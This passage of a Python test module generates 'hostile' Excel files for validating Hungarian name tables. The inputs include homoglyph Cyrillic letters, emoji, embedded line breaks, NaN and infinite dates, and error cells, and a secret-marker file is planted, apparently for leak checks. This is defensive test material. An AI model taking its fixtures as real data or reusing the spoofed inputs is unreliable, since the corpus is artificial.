            "Cyrillic look-alike letters",
            _cells(D2="Kiss \u0410nna"),
            None,
            rules=("W05",),
        ),
        c("emoji", "an emoji in a name", _cells(D3="Tóth Pálné 😀"), None, rules=("E08",)),
        c(
            "line_breaks",
            "names typed with Alt+Enter",
            _cells(D2="Kiss\nAnna", G2="Szabó\r\nMária"),
            None,
            rules=("W13",),
        ),
        c(
            "code_column_filled",
            "codes typed into column E",
            _cells(E3="7K3M-9XQ2-HT5W-R8P1-Z", E4="tavalyi kód"),
            None,
            rules=("W14",),
            tags=frozenset({"code_column"}),
        ),
        c(
            "date_out_of_range",
            "a date cell holding -1e300",
            _date_styled("-1e300"),
            "dátumként formázott",
        ),
        c(
            "date_nan",
            "NaN in the birth date",
            _cell("I2", '<c r="I2"><v>NaN</v></c>'),
            None,
            rules=("E02",),
        ),
        c(
            "date_inf",
            "1e999 in the birth date",
            _cell("I3", '<c r="I3"><v>1e999</v></c>'),
            None,
            rules=("E02",),
        ),
        c("date_1904", "the 1904 date system, a date cell", _date1904, None, rules=("W01",)),
        c(
            "boolean_cell",
            "a boolean in column D",
            _cell("D2", '<c r="D2" t="b"><v>1</v></c>'),
            None,
            rules=("E10",),
        ),
        c(
            "error_cell",
            "#N/A stored in column H",
            _cell("H2", '<c r="H2" t="e"><v>#N/A</v></c>'),
            None,
            rules=("E12",),
        ),
        c(
            "rich_value",
            "Budapest converted to a Geography data type",
            _cell("H2", '<c r="H2" t="e" vm="1"><v>#VALUE!</v></c>'),
            None,
            rules=("E13",),
        ),
    ]


def write(case: Case, base: Path, folder: Path) -> Path:
    """The case's file in ``folder``."""
    target = folder / case.name / case.filename
    target.parent.mkdir(parents=True, exist_ok=True)
    data = case.build(base, target)
    if data is not None:
        target.write_bytes(data)
    return target


def base_table(folder: Path) -> Path:
    return write_table(folder / "alap.xlsx")


if __name__ == "__main__":
    # python -m tests.hostile.cases FOLDER [CASE ...]: the corpus (or the cases named) in FOLDER.
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-tables")
    out.mkdir(parents=True, exist_ok=True)
    secret = out / "titok.txt"
    if not secret.exists():
        secret.write_text(SECRET_MARKER)
    base = out / "alap.xlsx"
    if not base.exists():
        base_table(out)
    wanted = set(sys.argv[2:])
    for case in corpus(secret):
        if not wanted or case.name in wanted:
            print(write(case, base, out))
